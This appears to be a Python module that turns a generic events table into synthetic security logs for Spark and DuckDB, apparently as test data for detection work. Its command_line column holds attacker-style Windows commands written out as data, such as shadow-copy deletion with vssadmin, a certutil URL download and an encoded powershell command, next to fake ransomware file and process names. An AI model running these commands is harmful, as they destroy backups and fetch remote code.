"""Security rows derived from the driver's events table, in SQL that Spark and DuckDB both read."""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession

_INNER = "SELECT *, CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k, user_id % 6 AS u, user_id % 60 AS p, chr(92) AS bs FROM {events}"

# name -> expression over events, k, u, p and bs
COLUMNS = {
    "seq": "event_id",
    "event_id": "concat('ev-', CAST(event_id AS {string}))",
    "ts": "CAST(ts AS TIMESTAMP)",
    "us": "{micros}",
    "host": "concat('host-', CAST(user_id % 5 AS {string}))",
    "username": "concat('user-', CAST(user_id % 7 AS {string}))",
    "event_type": "CASE event_type WHEN 'click' THEN 'file' WHEN 'view' THEN 'file' WHEN 'purchase' THEN 'network' WHEN 'error' THEN 'process' ELSE 'auth' END",
    "process_name": "CASE u WHEN 0 THEN 'explorer.exe' WHEN 1 THEN 'weirdencryptor.exe' WHEN 2 THEN 'chrome.exe' WHEN 3 THEN 'powershell.exe' WHEN 4 THEN 'backup.exe' ELSE 'winword.exe' END",
    "pid": "CAST(1000 + p AS BIGINT)",
    "ppid": "CAST(CASE WHEN p >= 5 THEN 995 + p ELSE 0 END AS BIGINT)",
    "operation": "CASE WHEN event_type IN ('click', 'view') THEN CASE k % 5 WHEN 0 THEN 'write' WHEN 1 THEN 'MODIFY' WHEN 2 THEN 'rename' WHEN 3 THEN 'delete' ELSE 'open' END END",
    "file_path": "CASE WHEN event_type IN ('click', 'view') THEN concat('C:', bs, 'Users', bs, 'u', CAST(k % 4 AS {string}), CASE WHEN k % 2 = 0 THEN bs ELSE '/' END, 'd', CAST(k % 7 AS {string}), '/f', CAST(k AS {string}), CASE WHEN u = 1 AND k % 3 = 0 THEN '.locked' WHEN u = 1 THEN '.encrypted' WHEN k % 11 = 0 THEN '' ELSE '.DOCX' END) END",
    "process_path": "CASE u WHEN 1 THEN concat('C:', bs, 'Users', bs, 'v', bs, 'AppData', bs, 'weirdencryptor.exe') WHEN 4 THEN concat('C:', bs, 'Program Files', bs, 'backup.exe') ELSE concat('C:', bs, 'Windows', bs, 'x.exe') END",
    "integrity_level": "CASE WHEN u IN (1, 4) THEN 'High' ELSE 'Medium' END",
    "direction": "CASE WHEN event_type = 'purchase' THEN CASE WHEN k % 3 = 0 THEN 'inbound' ELSE 'outbound' END END",
    "dest_ip": "CASE WHEN event_type = 'purchase' THEN CASE WHEN k % 16 = 5 THEN concat('fd00::', CAST(k AS {string})) WHEN k % 16 = 8 THEN concat('2A00:1450:4001:0::', CAST(k AS {string})) WHEN k % 16 = 15 THEN concat('::ffff:10.0.0.', CAST(k % 200 AS {string})) ELSE CASE k % 4 WHEN 0 THEN concat('45.76.23.', CAST(k AS {string})) WHEN 1 THEN concat('10.0.0.', CAST(k AS {string})) WHEN 2 THEN concat('100.64.0.', CAST(k AS {string})) ELSE 'not-an-ip' END END END",
    "dest_port": "CASE WHEN event_type = 'purchase' THEN CASE k % 6 WHEN 0 THEN 443 WHEN 1 THEN 4444 WHEN 2 THEN 8080 WHEN 3 THEN 11434 WHEN 4 THEN 1234 ELSE 8000 END END",
    "protocol": "CASE WHEN event_type = 'purchase' THEN CASE WHEN k % 2 = 0 THEN 'tcp' ELSE 'udp' END END",
    "command_line": "CASE WHEN event_type = 'error' THEN CASE k % 10 WHEN 0 THEN 'vssadmin delete shadows /all /quiet' WHEN 1 THEN 'wmic /node:10.0.0.5 process call create calc' WHEN 2 THEN 'certutil -urlcache -f http://x/y z' WHEN 3 THEN 'whoami /all' WHEN 4 THEN 'net user admin' WHEN 5 THEN 'powershell -enc SGVsbG9Xb3JsZEhlbGxvV29ybGQ=' WHEN 6 THEN 'schtasks /Create /sc onlogon /tr powershell' ELSE 'notepad a.txt' END END",
    "image": "CASE WHEN event_type = 'error' THEN CASE k % 10 WHEN 0 THEN 'vssadmin.exe' WHEN 1 THEN 'wmic.exe' WHEN 2 THEN 'certutil.exe' WHEN 3 THEN 'cmd.exe' WHEN 4 THEN 'powershell.exe' WHEN 5 THEN 'powershell.exe' WHEN 6 THEN 'schtasks.exe' ELSE 'notepad.exe' END END",
    "event_code": "CASE WHEN event_type = 'error' THEN CASE k % 10 WHEN 6 THEN '4698' WHEN 7 THEN '4699' WHEN 8 THEN '4702' WHEN 9 THEN '4689' ELSE '4688' END END",
    "outcome": "CASE WHEN event_type = 'signup' THEN CASE WHEN k % 3 <> 0 THEN 'failure' ELSE 'success' END END",
    "src_ip": "CASE WHEN event_type = 'signup' THEN concat('203.0.113.', CAST(user_id % 20 AS {string})) END",
    "k": "k",
    "u": "u",
}


def sql(dialect: str, events: str = "events") -> str:
    """The derived rows as a SELECT in the dialect `spark` or `duckdb`."""
    micros = "unix_micros(CAST(ts AS TIMESTAMP))" if dialect == "spark" else "epoch_us(ts)"
    string = "STRING" if dialect == "spark" else "VARCHAR"
    columns = ", ".join(f"{e.format(micros=micros, string=string)} AS {n}" for n, e in COLUMNS.items())
    return f"SELECT {columns} FROM ({_INNER.format(events=events)})"


def derived(events: DataFrame) -> DataFrame:
    """The derived rows of an events table or stream."""
    inner = events.selectExpr("*", "CAST(regexp_extract(props, '([0-9]+)', 1) AS INT) AS k", "user_id % 6 AS u", "user_id % 60 AS p", "chr(92) AS bs")
    return inner.selectExpr(*[f"{e.format(micros='unix_micros(CAST(ts AS TIMESTAMP))', string='STRING')} AS {n}" for n, e in COLUMNS.items()])


def sec_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return derived(spark.read.parquet(f"{sf_dir}/events.parquet"))


def scratch(spark: SparkSession) -> str:
    """A new folder for a job's files: below the shared checkpoint folder, or the warehouse where that is unset."""
    home = spark.conf.get("spark.checkpoint.dir", None) or f"{spark.conf.get('spark.sql.warehouse.dir').rstrip('/')}/scratch"
    return f"{home.rstrip('/')}/{uuid.uuid4().hex}"
